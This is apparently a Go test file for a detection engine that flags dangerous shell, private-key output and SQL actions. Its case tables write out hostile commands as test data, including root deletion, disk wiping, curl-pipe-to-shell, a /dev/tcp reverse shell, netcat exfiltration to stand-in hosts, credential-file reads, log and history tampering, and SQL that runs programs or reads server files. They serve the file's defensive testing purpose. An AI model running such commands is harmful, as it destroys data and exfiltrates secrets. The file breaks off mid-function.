package rules

import (
	"slices"
	"strings"
	"testing"
)

// allPacks names every built-in pack.
var allPacks = []string{PackOSSensitive, PackLateralMovement, PackCredentialAccess, PackDatabase}

// builtinSet returns a Set with every built-in pack.
func builtinSet(t testing.TB) *Set {
	t.Helper()
	e, err := New("")
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	s, err := e.Set(allPacks)
	if err != nil {
		t.Fatalf("Set: %v", err)
	}
	return s
}

// hitIDs returns the IDs of hits, comma-separated.
func hitIDs(hits []Hit) string {
	ids := make([]string, len(hits))
	for i, h := range hits {
		ids[i] = h.Rule.ID
	}
	slices.Sort(ids)
	return strings.Join(ids, ",")
}

type ruleCase struct {
	text string
	want string // the IDs that hit, sorted, comma-separated; "" for none
}

// commandCases are command lines and the built-in rules they hit. Each
// rule has lines that hit, in the disguises the command-position helper
// sees through, and innocent look-alikes that must not.
var commandCases = []ruleCase{
	// os.rm-root
	{`rm -rf /`, "os.rm-root"},
	{`rm -fr /`, "os.rm-root"},
	{`rm -r -f /`, "os.rm-root"},
	{`rm --recursive --force /`, "os.rm-root"},
	{`rm -rf --no-preserve-root /`, "os.rm-root"},
	{`rm --no-preserve-root -rf /tmp/x`, "os.rm-root"},
	{`rm -rf /*`, "os.rm-root"},
	{`rm -rf / `, "os.rm-root"},
	{`rm -Rf "/"`, "os.rm-root"},
	{`rm -rf -- /`, "os.rm-root"},
	{`rm / -rf`, "os.rm-root"},
	{`rm -rf ~`, "os.rm-root"},
	{`rm -rf ~/`, "os.rm-root"},
	{`rm -rf $HOME`, "os.rm-root"},
	{`rm -rf /home`, "os.rm-root"},
	{`rm -rf /etc/`, "os.rm-root"},
	{`rm -rf /usr`, "os.rm-root"},
	{`rm -rf /var/*`, "os.rm-root"},
	{`rm -rf /boot`, "os.rm-root"},
	{`rm -rf /tmp/build / tmp`, "os.rm-root"},
	{`  sudo rm -rf /`, "os.rm-root"},
	{`sudo -u root rm -rf /`, "os.rm-root"},
	{`sudo -E -H rm -rf /`, "os.rm-root"},
	{`env X=y rm -rf /`, "os.rm-root"},
	{`FOO=bar rm -rf /`, "os.rm-root"},
	{`nohup rm -rf / &`, "os.rm-root"},
	{`exec rm -rf /`, "os.rm-root"},
	{`command rm -rf /`, "os.rm-root"},
	{`busybox rm -rf /`, "os.rm-root"},
	{`/bin/rm -rf /`, "os.rm-root"},
	{`\rm -rf /`, "os.rm-root"},
	{`ls; rm -rf /`, "os.rm-root"},
	{`true && rm -rf /`, "os.rm-root"},
	{`false || rm -rf /`, "os.rm-root"},
	{`echo $(rm -rf /)`, "os.rm-root"},
	{"echo `rm -rf /`", "os.rm-root"},
	{`ls | xargs rm -rf /`, "os.rm-root"},
	{`bash -c 'rm -rf /'`, "os.rm-root"},
	{`sh -c "rm -rf /*"`, "os.rm-root"},
	{`sudo sh -c 'cd / && rm -rf /'`, "os.rm-root"},
	{`if true; then rm -rf /; fi`, "os.rm-root"},
	{`sudo  rm  -rf  /`, "os.rm-root"},
	{"rm\t-rf\t/", "os.rm-root"},
	{`rm -rf /;`, "os.rm-root"},
	{`(rm -rf /)`, "os.rm-root"},
	{`{ rm -rf /; }`, "os.rm-root"},
	{`time rm -rf /`, "os.rm-root"},
	{`nice -n 10 rm -rf /`, "os.rm-root"},
	{`timeout 5 rm -rf /`, "os.rm-root"},
	{`doas rm -rf /`, "os.rm-root"},
	{`env -i PATH=/bin rm -rf /`, "os.rm-root"},
	{`sudo --preserve-env rm -rf /`, "os.rm-root"},
	{`su -c 'rm -rf /'`, "os.rm-root"},
	{`su root -c "rm -rf /"`, "os.rm-root"},
	{`"rm" -rf /`, "os.rm-root"},
	{`rm -rf "$HOME"`, "os.rm-root"},
	{`rm -rf ${HOME}/`, "os.rm-root"},
	{`rm -rf //`, "os.rm-root"},
	{`rm -rf / --no-preserve-root`, "os.rm-root"},
	{`python3 -c "import os; os.system('rm -rf /')"`, "os.rm-root"},
	{`rm -rf /tmp/build`, ""},
	{`rm -rf ./x`, ""},
	{`rm -rf build/ dist/`, ""},
	{`rm -rf /home/alice/tmp`, ""},
	{`rm -rf ~/tmp`, ""},
	{`rm -f /etc/nginx/sites-enabled/default`, ""},
	{`rm /`, ""},
	{`echo rm -rf /`, ""},
	{`git rm -r /`, ""},
	{`format /`, ""},
	{`cat README.md`, ""},

	// os.mkfs
	{`mkfs.ext4 /dev/sdb1`, "os.mkfs"},
	{`sudo /usr/sbin/mkfs.ext4 /dev/sdb1`, "os.mkfs"},
	{`mkfs -t xfs /dev/vdb`, "os.mkfs"},
	{`mke2fs /dev/sdc`, "os.mkfs"},
	{`ls && mkfs.vfat /dev/sdd1`, "os.mkfs"},
	{`man mkfs`, ""},
	{`mkfsx --help`, ""},
	{`echo mkfs.ext4`, ""},

	// os.dd-device, os.write-device, os.disk-wipe
	{`dd if=/dev/zero of=/dev/sda bs=1M`, "os.dd-device"},
	{`sudo dd if=image.iso of=/dev/sdb status=progress`, "os.dd-device"},
	{`dd if=/dev/urandom of=/dev/nvme0n1`, "os.dd-device"},
	{`dd if=x of="/dev/mapper/vg-root"`, "os.dd-device"},
	{`dd if=/dev/zero of=/dev/null bs=1M count=100`, ""},
	{`dd if=/dev/sda of=/backup/sda.img`, ""},
	{`dd if=/dev/zero of=./file bs=1k count=1`, ""},
	{`cat image.img > /dev/sda`, "os.write-device"},
	{`echo 0 | sudo tee /dev/sdb`, "os.write-device"},
	{`cp disk.img /dev/sdb`, "os.write-device"},
	{`make 2>/dev/null`, ""},
	{`cmd > /dev/stderr`, ""},
	{`cp /dev/sda1 backup.img`, ""},
	{`cat /dev/sda1 | gzip > disk.gz`, ""},
	{`wipefs -a /dev/sdb`, "os.disk-wipe"},
	{`sgdisk --zap-all /dev/sda`, "os.disk-wipe"},
	{`shred -n 3 /dev/sda`, "os.disk-wipe"},
	{`blkdiscard /dev/nvme0n1`, "os.disk-wipe"},
	{`wipefs /dev/sdb`, ""},
	{`shred -u secrets.txt`, ""},
	{`sgdisk -p /dev/sda`, ""},

	// os.shutdown
	{`shutdown -h now`, "os.shutdown"},
	{`sudo reboot`, "os.shutdown"},
	{`halt`, "os.shutdown"},
	{`/sbin/poweroff`, "os.shutdown"},
	{`init 0`, "os.shutdown"},
	{`sudo init 6`, "os.shutdown"},
	{`telinit 1`, "os.shutdown"},
	{`systemctl poweroff`, "os.shutdown"},
	{`sudo systemctl reboot --force`, "os.shutdown"},
	{`systemctl -i halt`, "os.shutdown"},
	{`systemctl isolate rescue.target`, "os.shutdown"},
	{`echo b > /proc/sysrq-trigger`, "os.shutdown"},
	{`make && sudo reboot`, "os.shutdown"},
	{`echo shutdown`, ""},
	{`man reboot`, ""},
	{`cat /var/log/shutdown.log`, ""},
	{`systemctl status nginx`, ""},
	{`sudo systemctl restart nginx`, ""},
	{`git init`, ""},
	{`./init.sh 0`, ""},
	{`last reboot`, ""},

	// os.chmod-root, os.setuid
	{`chmod -R 777 /`, "os.chmod-root"},
	{`chmod 777 -R /`, "os.chmod-root"},
	{`chmod --recursive 755 /`, "os.chmod-root"},
	{`sudo chown -R nobody:nogroup /etc`, "os.chmod-root"},
	{`chmod -R a+rwx /usr/`, "os.chmod-root"},
	{`chmod -R 755 /opt/app`, ""},
	{`chmod 777 /tmp/x`, ""},
	{`chown -R www-data:www-data /var/www`, ""},
	{`chmod 644 /etc/nginx/nginx.conf`, ""},
	{`chmod u+s /bin/bash`, "os.setuid"},
	{`sudo chmod 4755 /tmp/sh`, "os.setuid"},
	{`chmod +s ./x`, "os.setuid"},
	{`chmod u+x deploy.sh`, ""},
	{`chmod 0755 /usr/local/bin/tool`, ""},
	{`chmod g+s shared/`, ""},

	// os.firewall-off
	{`iptables -F`, "os.firewall-off"},
	{`sudo iptables --flush`, "os.firewall-off"},
	{`ip6tables -t nat -F`, "os.firewall-off"},
	{`iptables -P INPUT ACCEPT`, "os.firewall-off"},
	{`nft flush ruleset`, "os.firewall-off"},
	{`sudo ufw disable`, "os.firewall-off"},
	{`systemctl stop firewalld`, "os.firewall-off"},
	{`systemctl disable --now ufw.service`, "os.firewall-off"},
	{`service iptables stop`, "os.firewall-off"},
	{`iptables -L -n -v`, ""},
	{`iptables -A INPUT -p tcp --dport 22 -j ACCEPT`, ""},
	{`nft list ruleset`, ""},
	{`ufw status`, ""},
	{`sudo ufw allow 443/tcp`, ""},
	{`systemctl status firewalld`, ""},

	// os.selinux-off, os.audit-off
	{`setenforce 0`, "os.selinux-off"},
	{`sudo setenforce Permissive`, "os.selinux-off"},
	{`aa-teardown`, "os.selinux-off"},
	{`systemctl stop apparmor`, "os.selinux-off"},
	{`setenforce 1`, ""},
	{`getenforce`, ""},
	{`aa-status`, ""},
	{`auditctl -e 0`, "os.audit-off"},
	{`sudo auditctl -D`, "os.audit-off"},
	{`systemctl stop auditd`, "os.audit-off"},
	{`service rsyslog stop`, "os.audit-off"},
	{`auditctl -l`, ""},
	{`systemctl restart rsyslog`, ""},

	// os.log-tamper
	{`> /var/log/auth.log`, "os.log-tamper"},
	{`cat /dev/null > /var/log/wtmp`, "os.log-tamper"},
	{`rm -f /var/log/secure`, "os.log-tamper"},
	{`shred -u /var/log/audit/audit.log`, "os.log-tamper"},
	{`journalctl --vacuum-time=1s`, "os.log-tamper"},
	{`tail -f /var/log/auth.log`, ""},
	{`rm /var/log/myapp/old.log`, ""},
	{`cp /var/log/syslog /tmp/`, ""},
	{`cp /dev/null /var/log/wtmp`, "os.log-tamper"},
	{`mv /var/log/auth.log /tmp/`, "os.log-tamper"},
	{`journalctl -u nginx --since today`, ""},

	// os.history-tamper
	{`history -c`, "os.history-tamper"},
	{`history -cw`, "os.history-tamper"},
	{`history -d 42`, "os.history-tamper"},
	{`unset HISTFILE`, "os.history-tamper"},
	{`export HISTFILE=/dev/null`, "os.history-tamper"},
	{`HISTFILE= bash`, "os.history-tamper"},
	{`export HISTSIZE=0`, "os.history-tamper"},
	{`set +o history`, "os.history-tamper"},
	{`rm ~/.bash_history`, "os.history-tamper"},
	{`cat /dev/null > ~/.bash_history`, "os.history-tamper"},
	{`ln -sf /dev/null ~/.zsh_history`, "os.history-tamper"},
	{`history`, ""},
	{`history | grep ssh`, ""},
	{`history 20`, ""},
	{`echo $HISTFILE`, ""},
	{`export HISTSIZE=10000`, ""},
	{`grep docker ~/.bash_history`, ""},

	// os.user-change
	{`useradd -m eve`, "os.user-change"},
	{`sudo adduser eve sudo`, "os.user-change"},
	{`usermod -aG wheel eve`, "os.user-change"},
	{`userdel -r bob`, "os.user-change"},
	{`groupadd ops`, "os.user-change"},
	{`gpasswd -a eve docker`, "os.user-change"},
	{`echo 'root:x' | chpasswd`, "os.user-change"},
	{`passwd root`, "os.user-change"},
	{`sudo passwd -d alice`, "os.user-change"},
	{`visudo`, "os.user-change"},
	{`visudo -f /etc/sudoers.d/eve`, "os.user-change"},
	{`sudo visudo -c`, ""},
	{`visudo -c -f /etc/sudoers.d/eve`, ""},
	{`visudo -c; visudo`, "os.user-change"},
	{`chsh -s /bin/zsh`, ""},
	{`passwd`, ""},
	{`id eve`, ""},
	{`getent passwd eve`, ""},
	{`cat /etc/group`, ""},
	{`ls -l /home/user`, ""},
	{`git commit -m 'fix user group handling'`, ""},

	// os.sudoers-write
	{`echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers`, "os.sudoers-write"},
	{`echo 'eve ALL=(ALL) ALL' | sudo tee /etc/sudoers.d/eve`, "os.sudoers-write"},
	{`sudo tee -a /etc/sudoers < x`, "os.sudoers-write"},
	{`cp evil /etc/sudoers.d/90-evil`, "os.sudoers-write"},
	{`sed -i 's/^#%wheel/%wheel/' /etc/sudoers`, "os.sudoers-write"},
	{`vim /etc/passwd`, "os.sudoers-write"},
	{`echo 'x::0:0::/:/bin/sh' >> /etc/passwd`, "os.sudoers-write"},
	{`sudo -e /etc/sudoers`, "os.sudoers-write"},
	{`cat /etc/sudoers`, ""},
	{`grep eve /etc/passwd`, ""},
	{`cp /etc/passwd /tmp/passwd.bak`, ""},
	{`ls -l /etc/sudoers.d/`, ""},

	// os.authorized-keys
	{`echo ssh-ed25519 AAAA... >> ~/.ssh/authorized_keys`, "os.authorized-keys"},
	{`cat key.pub | tee -a /root/.ssh/authorized_keys`, "os.authorized-keys"},
	{`cp key.pub /home/bob/.ssh/authorized_keys`, "os.authorized-keys"},
	{`cat ~/.ssh/authorized_keys`, ""},
	{`wc -l .ssh/authorized_keys`, ""},

	// os.curl-pipe-shell
	{`curl -fsSL https://get.example.com | sh`, "os.curl-pipe-shell"},
	{`curl -s https://x.io/install.sh | sudo bash`, "os.curl-pipe-shell"},
	{`curl -s https://x.io/i | sudo -E bash -s -- --yes`, "os.curl-pipe-shell"},
	{`wget -qO- https://x.io/i.sh | bash`, "os.curl-pipe-shell"},
	{`wget -O - https://x.io/i.py | python3`, "os.curl-pipe-shell"},
	{`curl https://x.io/a | tee /tmp/a | sh`, "os.curl-pipe-shell"},
	{`bash <(curl -s https://x.io/i.sh)`, "os.curl-pipe-shell"},
	{`source <(wget -qO- https://x.io/env)`, "os.curl-pipe-shell"},
	{`sh -c "$(curl -fsSL https://x.io/install.sh)"`, "os.curl-pipe-shell"},
	{`eval "$(curl -s https://x.io/env)"`, "os.curl-pipe-shell"},
	{`/usr/bin/curl -s x | /bin/sh`, "os.curl-pipe-shell"},
	{`curl -s https://api.example.com/v1 | jq .`, ""},
	{`curl -o install.sh https://x.io/install.sh`, ""},
	{`wget https://x.io/file.tar.gz`, ""},
	{`curl -s https://x.io/sums | shasum -c`, ""},
	{`curl -s https://x.io/list | grep bash`, ""},
	{`wget -qO- https://x.io/a.tgz | tar xz`, ""},
	{`sh install.sh`, ""},
	{`echo "curl x | sh"`, ""},
	{`grep 'curl.*| sh' notes.txt`, ""},
	{`sudo apt install rsync nmap`, ""},
	{`sudo -u postgres psql`, ""},
	{`watch -n 1 ls`, ""},
	{`time make -j8`, ""},
	{`find / -name '*.log' -mtime +7 -exec rm {} \;`, ""},
	{`ls -la /var/log/nginx | grep error`, ""},
	{`tail -f /var/log/syslog`, ""},
	{`docker run --rm -it alpine sh`, ""},

	// lat.ssh, lat.sftp
	{`ssh admin@db1.internal`, "lat.ssh"},
	{`ssh -p 2222 -i ~/.ssh/deploy admin@10.0.0.5`, "lat.ssh"},
	{`ssh -o StrictHostKeyChecking=no host uptime`, "lat.ssh"},
	{`sudo -u deploy ssh web2`, "lat.ssh"},
	{`sshpass -p secret ssh root@10.0.0.9`, "lat.ssh"},
	{`ssh localhost`, "lat.ssh"},
	{`mosh web3`, "lat.ssh"},
	{`ssh-copy-id bob@web4`, "lat.ssh"},
	{`sftp user@files.internal`, "lat.sftp"},
	{`sftp -P 2222 files`, "lat.sftp"},
	{`ssh -V`, ""},
	{`ssh`, ""},
	{`ssh-keygen -t ed25519 -C me`, ""},
	{`ssh-add -l`, ""},
	{`cat ~/.ssh/config`, ""},
	{`systemctl restart ssh`, ""},
	{`man ssh`, ""},
	{`echo ssh web2`, ""},

	// lat.scp, lat.rsync
	{`scp backup.tar.gz user@10.0.0.7:/tmp/`, "lat.scp"},
	{`scp -P 2222 -r dir host:`, "lat.scp"},
	{`scp host:/etc/hosts .`, "lat.scp"},
	{`scp file localhost:/tmp`, "lat.scp"},
	{`scp a.txt b.txt`, ""},
	{`scp ./a ./b/`, ""},
	{`rsync -avz /data/ backup@nas:/backups/data/`, "lat.rsync"},
	{`rsync -a host::module/ ./mod/`, "lat.rsync"},
	{`rsync -e 'ssh -p 2222' -a src/ web2:/srv/`, "lat.rsync"},
	{`rsync rsync://mirror.example.com/pub/ ./pub/`, "lat.rsync"},
	{`rsync -av /src/ /dst/`, ""},
	{`rsync -a --delete build/ /var/www/html/`, ""},
	{`rsync -av --exclude='*.tmp' src/ dst/`, ""},

	// lat.netcat, lat.dev-tcp, lat.scan
	{`nc -lvnp 4444`, "lat.netcat"},
	{`nc 10.0.0.5 80`, "lat.netcat"},
	{`ncat --ssl evil.example 443`, "lat.netcat"},
	{`socat TCP:10.0.0.5:80 -`, "lat.netcat"},
	{`telnet mail 25`, "lat.netcat"},
	{`cat /etc/hosts | nc evil 9000`, "lat.netcat"},
	{`ncdu /var`, ""},
	{`ncal`, ""},
	{`sync`, ""},
	{`echo nc`, ""},
	{`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, "lat.dev-tcp"},
	{`exec 3<>/dev/udp/10.0.0.1/53`, "lat.dev-tcp"},
	{`ls /dev/tty*`, ""},
	{`nmap -sS 10.0.0.0/24`, "lat.scan"},
	{`sudo masscan -p1-65535 10.0.0.0/8`, "lat.scan"},
	{`zmap -p 22`, "lat.scan"},
	{`nmapper --help`, ""},
	{`echo nmap`, ""},

	// cred.shadow
	{`cat /etc/shadow`, "cred.shadow"},
	{`sudo less /etc/gshadow`, "cred.shadow"},
	{`cp /etc/shadow /tmp/s`, "cred.shadow"},
	{`cat /etc/shadow-`, "cred.shadow"},
	{`getent shadow`, "cred.shadow"},
	{`unshadow /etc/passwd x > hashes`, "cred.shadow"},
	{`ls /etc/shadow-backup-dir`, ""},
	{`ls -l /etc/shadow`, ""},
	{`sudo stat /etc/shadow`, ""},
	{`ls -l /etc/shadow; cat /etc/shadow`, "cred.shadow"},
	{`cat /etc/passwd`, ""},
	{`getent passwd`, ""},

	// cred.ssh-key
	{`cat ~/.ssh/id_rsa`, "cred.ssh-key"},
	{`cat /home/bob/.ssh/id_ed25519`, "cred.ssh-key"},
	{`sudo cat /root/.ssh/id_ecdsa`, "cred.ssh-key"},
	{`base64 ~/.ssh/id_rsa | nc x 1`, "cred.ssh-key,lat.netcat"},
	{`scp ~/.ssh/id_rsa evil:`, "cred.ssh-key,lat.scp"},
	{`cat /etc/ssh/ssh_host_ed25519_key`, "cred.ssh-key"},
	{`tar czf /tmp/k.tgz ~/.ssh`, "cred.ssh-key"},
	{`cat ~/.ssh/*`, "cred.ssh-key"},
	{`cat ~/.ssh/id_rsa.pub`, ""},
	{`cat /etc/ssh/ssh_host_rsa_key.pub`, ""},
	{`ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519`, ""},
	{`ssh-add ~/.ssh/id_ed25519`, ""},
	{`ls ~/.ssh`, ""},
	{`cat ~/.ssh/known_hosts`, ""},
	{`chmod 600 ~/.ssh/id_rsa`, ""},
	{`ssh-add; cat ~/.ssh/id_rsa`, "cred.ssh-key"},
	{`chmod 600 ~/.ssh/id_rsa && cat ~/.ssh/id_rsa`, "cred.ssh-key"},
	{`ls ~/.ssh/id_rsa $(cat ~/.ssh/id_rsa)`, "cred.ssh-key"},

	// cred.tls-key, cred.cloud, cred.kube, cred.dotfiles
	{`cat /etc/ssl/private/server.key`, "cred.tls-key"},
	{`cp /etc/letsencrypt/live/example.com/privkey.pem /tmp`, "cred.tls-key"},
	{`cat /etc/letsencrypt/live/example.com/fullchain.pem`, ""},
	{`cat ~/.aws/credentials`, "cred.cloud"},
	{`tar cf x.tar ~/.config/gcloud`, "cred.cloud"},
	{`ls ~/.azure/`, "cred.cloud"},
	{`cat ~/.aws/config`, ""},
	{`aws s3 ls`, ""},
	{`cat azure-pipelines.yml`, ""},
	{`cat ~/.kube/config`, "cred.kube"},
	{`sudo cat /etc/kubernetes/admin.conf`, "cred.kube"},
	{`cat ~/.docker/config.json`, "cred.kube"},
	{`kubectl get pods`, ""},
	{`docker ps`, ""},
	{`cat ~/.netrc`, "cred.dotfiles"},
	{`cat /var/lib/postgresql/.pgpass`, "cred.dotfiles"},
	{`cat .git-credentials`, "cred.dotfiles"},
	{`cat ~/.vault-token`, "cred.dotfiles"},
	{`cat /etc/mysql/my.cnf`, ""},
	{`man netrc`, ""},

	// Everyday commands hit nothing.
	{`sudo apt-get update && sudo apt-get upgrade -y`, ""},
	{`docker exec -it web sh`, ""},
	{`kubectl exec -it pod -- sh`, ""},
	{`git push origin main`, ""},
	{`ps aux | grep nginx`, ""},
	{`du -sh /var/*`, ""},
	{`journalctl -xe`, ""},
	{`cat /etc/os-release`, ""},
	{`vim /etc/hosts`, ""},
	{`sudo -i`, ""},
	{`su - postgres`, ""},
	{`crontab -l`, ""},
	{`export PATH=$PATH:/usr/local/bin`, ""},
	{`ls /home`, ""},
	{`cd /etc && ls`, ""},
	{`tar -czf backup.tar.gz /etc`, ""},
	{`sudo chown -R app:app /srv/app`, ""},
	{`rm -rf node_modules`, ""},
	{`rm -rf /var/lib/apt/lists/*`, ""},
	{`sudo systemctl daemon-reload`, ""},
	{`cat /var/run/reboot-required`, ""},
	{`ssh-keyscan github.com >> ~/.ssh/known_hosts`, ""},
	{`git clone git@github.com:org/repo.git`, ""},
	{`rsync --version`, ""},
	{`openssl genrsa -out server.key 2048`, ""},
	{`mount /dev/sdb1 /mnt`, ""},
	{`fdisk -l /dev/sda`, ""},
	{`smartctl -a /dev/sda`, ""},
	{`unset HISTCONTROL`, ""},
	{`export HISTTIMEFORMAT='%F %T '`, ""},
	{`echo 'user ALL=(ALL) ALL' > /tmp/sudoers.test`, ""},
	{`cat /etc/ssh/sshd_config`, ""},
	{`less /var/log/secure`, ""},
	{`truncate -s 0 /var/log/nginx/access.log`, ""},
	{`getent group docker`, ""},
	{`sudo tee -a /etc/hosts`, ""},
	{`sed -i 's/x/y/' /etc/passwd-backup`, ""},
	{`systemctl list-units | grep halt`, ""},
	{`kill -HUP 1`, ""},
	{`service ssh restart`, ""},
	{`./configure && make && sudo make install`, ""},
	{`rm -rf /*.log`, ""},
	{`rm -rf $HOME/.cache`, ""},
	{`rm -rf ~/.cache/*`, ""},
	{`rm -rf /boot/old-kernel`, ""},
	{`git log -p | grep -i password`, ""},
	{`ip addr`, ""},
	{`ss -tlnp`, ""},
	{`curl -I https://example.com`, ""},
	{`wget -q -O /tmp/x https://example.com/x`, ""},
	{`ping -c 3 10.0.0.1`, ""},
	{`echo hi > /dev/tty`, ""},
	{`sudo dd if=/dev/sda of=/tmp/mbr.bin bs=512 count=1`, ""},
	{`awk -F: '{print $1}' /etc/passwd`, ""},
	{`sudo -u www-data php artisan migrate`, ""},
	{`systemctl restart sshd`, ""},
	{`echo 'init 0' >> notes.txt`, ""},
	{`grep -r 'rm -rf /' .`, ""},
	{`man 8 shutdown`, ""},
}

var outputCases = []ruleCase{
	{`-----BEGIN RSA PRIVATE KEY-----`, "cred.private-key-output"},
	{`-----BEGIN OPENSSH PRIVATE KEY-----`, "cred.private-key-output"},
	{`-----BEGIN PRIVATE KEY-----`, "cred.private-key-output"},
	{`-----BEGIN ENCRYPTED PRIVATE KEY-----`, "cred.private-key-output"},
	{`-----BEGIN PGP PRIVATE KEY BLOCK-----`, "cred.private-key-output"},
	{`$ cat k; -----BEGIN EC PRIVATE KEY-----`, "cred.private-key-output"},
	{`-----BEGIN PUBLIC KEY-----`, ""},
	{`-----BEGIN CERTIFICATE-----`, ""},
	{`-----BEGIN OPENSSH PUBLIC KEY-----`, ""},
	{`the private key is stored in the vault`, ""},
}

var sqlCases = []ruleCase{
	// db.drop
	{`DROP TABLE users`, "db.drop"},
	{`drop table if exists users cascade;`, "db.drop"},
	{`DROP DATABASE prod`, "db.drop"},
	{`DROP SCHEMA public CASCADE`, "db.drop"},
	{`DROP/**/TABLE "Users"`, "db.drop"},
	{`DROP MATERIALIZED VIEW mv`, "db.drop"},
	{`DROP ROLE alice`, "db.drop"},
	{"select 1;\n  drop\n  table t", "db.drop"},
	{`SELECT 'drop table x'`, ""},
	{`SELECT * FROM "drop table"`, ""},
	{`-- drop table users` + "\nselect 1", ""},
	{`/* DROP TABLE x */ SELECT 1`, ""},
	{`SELECT $$drop table x$$`, ""},
	{`SELECT drop_count FROM stats`, ""},
	{`ALTER TABLE t DROP CONSTRAINT t_pk`, ""},
	{`ALTER TABLE t DROP COLUMN c`, "db.drop-column"},
	// db.truncate
	{`TRUNCATE users`, "db.truncate"},
	{`truncate table orders restart identity`, "db.truncate"},
	{`SELECT date_trunc('day', now())`, ""},
	{`SELECT 'truncate'`, ""},
	// db.delete-no-where
	{`DELETE FROM users`, "db.delete-no-where"},
	{`delete from users;`, "db.delete-no-where"},
	{`DELETE FROM orders RETURNING *`, "db.delete-no-where"},
	{`WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d WHERE true`, "db.delete-no-where"},
	{`WITH old AS (SELECT id FROM t WHERE created < now()) DELETE FROM t`, "db.delete-no-where"},
	{`DELETE FROM users WHERE id = 7`, ""},
	{`delete from users where id in (select id from banned)`, ""},
	{`DELETE FROM t WHERE id = 1 RETURNING *`, ""},
	{`WITH d AS (DELETE FROM t WHERE x < 3 RETURNING *) SELECT * FROM d`, ""},
	{`DELETE FROM t USING u WHERE t.id = u.id`, ""},
	{`SELECT 'delete from users'`, ""},
	// db.update-no-where
	{`UPDATE users SET admin = true`, "db.update-no-where"},
	{`update accounts set balance = 0;`, "db.update-no-where"},
	{`UPDATE ONLY t AS x SET a = 1`, "db.update-no-where"},
	{`UPDATE t SET a = (SELECT b FROM u WHERE u.id = 1)`, "db.update-no-where"},
	{`UPDATE "Users" SET "Admin" = true`, "db.update-no-where"},
	{`UPDATE users SET admin = true WHERE id = 7`, ""},
	{`UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u)`, ""},
	{`UPDATE t SET a = u.a FROM u WHERE t.id = u.id`, ""},
	{`SELECT * FROM t FOR UPDATE`, ""},
	{`INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a`, ""},
	{`SELECT 'update t set a = 1'`, ""},
	// db.grant, db.role-change
	{`GRANT ALL ON ALL TABLES IN SCHEMA public TO eve`, "db.grant"},
	{`revoke select on t from bob`, "db.grant"},
	{`ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r`, "db.grant"},
	{`SELECT * FROM grants`, ""},
	{`SELECT has_table_privilege('t', 'select')`, ""},
	{`ALTER ROLE eve SUPERUSER`, "db.role-change"},
	{`CREATE USER eve WITH PASSWORD 'x'`, "db.role-change"},
	{`create role readonly`, "db.role-change"},
	{`ALTER USER bob VALID UNTIL 'infinity'`, "db.role-change"},
	{`CREATE USER MAPPING FOR bob SERVER s`, ""},
	{`SELECT current_user`, ""},
	{`SELECT * FROM pg_roles`, ""},
	// db.copy-program, db.alter-system, db.server-files
	{`COPY t FROM PROGRAM 'curl x | sh'`, "db.copy-program"},
	{`copy (select 1) to program 'rm -rf /'`, "db.copy-program"},
	{`COPY t TO STDOUT`, ""},
	{`COPY t FROM '/tmp/x.csv' WITH (FORMAT csv)`, ""},
	{`ALTER SYSTEM SET log_statement = 'none'`, "db.alter-system"},
	{`SELECT * FROM pg_settings WHERE name = 'alter system'`, ""},
	{`SELECT pg_read_file('/etc/passwd')`, "db.server-files"},
	{`SELECT lo_import('/etc/shadow')`, "db.server-files"},
	{`SELECT 'pg_read_file('`, ""},
	// A quoted identifier called as a function reads as its name.
	{`SELECT "pg_read_file"('/etc/passwd')`, "db.server-files"},
	{`SELECT pg_catalog."PG_READ_FILE" /* x */ ('/etc/passwd')`, "db.server-files"},
	{`SELECT U&"pg\005fread_file"('/etc/passwd')`, "db.server-files"},
	{`SELECT U&"pg!005fread_file" UESCAPE '!' ('/etc/passwd')`, "db.server-files"},
	{`SELECT U&"lo\+00005fimport"('/etc/shadow')`, "db.server-files"},
	{`SELECT "pg_read_file" FROM t`, ""},
	// A reserved word stays quoted: "where" is not the key word.
	{`DELETE FROM t USING "where"() w`, "db.delete-no-where"},
	// Code bodies, several statements.
	{`DO $$ BEGIN DELETE FROM audit_log; END $$`, "db.delete-no-where"},
	{`CREATE FUNCTION f() RETURNS void AS $body$ TRUNCATE t; $body$ LANGUAGE sql`, "db.truncate"},
	{`SELECT 1; DROP TABLE t; SELECT 2`, "db.drop"},
	{`select 1; delete from t; update u set a = 1`, "db.delete-no-where,db.update-no-where"},
	{`SELECT 'a;b'; SELECT "x;y"`, ""},
	{`DELETE FROM t -- WHERE id = 1`, "db.delete-no-where"},
	{`DELETE FROM t /* WHERE id = 1 */`, "db.delete-no-where"},
	{`DELETE FROM t WHERE note = 'no where'`, ""},
	{`DELETE FROM "t" WHERE "id" = 1`, ""},
	{`SELECT E'it\'s ; drop table t'`, ""},
}

func TestBuiltinRules(t *testing.T) {
	s := builtinSet(t)
	for _, group := range []struct {
		kind  Kind
		cases []ruleCase
	}{
		{KindCommand, commandCases},
		{KindOutput, outputCases},
		{KindSQL, sqlCases},
	} {
		for _, tc := range group.cases {
			t.Run(string(group.kind)+"/"+tc.text, func(t *testing.T) {
				if got := hitIDs(s.Match(group.kind, tc.text)); got != tc.want {
					t.Errorf("Match(%s, %q): got %q, want %q", group.kind, tc.text, got, tc.want)
				}
			})
		}
	}
}

// TestBuiltinCoverage checks that every built-in rule has a case that
// hits it, and that its keywords and quick expressions, which exist
// for speed only, never change what it hits.
func TestBuiltinCoverage(t *testing.T) {
	e, err := New("")
	if err != nil {
		t.Fatal(err)
	}
	covered := make(map[string]bool)
	for _, cases := range [][]ruleCase{commandCases, outputCases, sqlCases} {
		for _, tc := range cases {
			for id := range strings.SplitSeq(tc.want, ",") {
				covered[id] = true
			}
		}
	}
	var texts []string
	for _, cases := range [][]ruleCase{commandCases, outputCases} {
		for _, tc := range cases {
			texts = append(texts, tc.text)
		}
	}
	for _, p := range e.Packs() {
		for _, r := range p.Rules {
			t.Run(r.ID, func(t *testing.T) {
				if !covered[r.ID] {
					t.Errorf("no test case hits %s", r.ID)
				}
				if r.Description == "" || !p.Builtin {
					t.Errorf("got description %q builtin %v, want a description, builtin", r.Description, p.Builtin)
				}
				if r.Kind == KindSQL {
					return
				}
				plain := r
				plain.keywords, plain.quickRe = nil, nil
				for _, text := range texts {
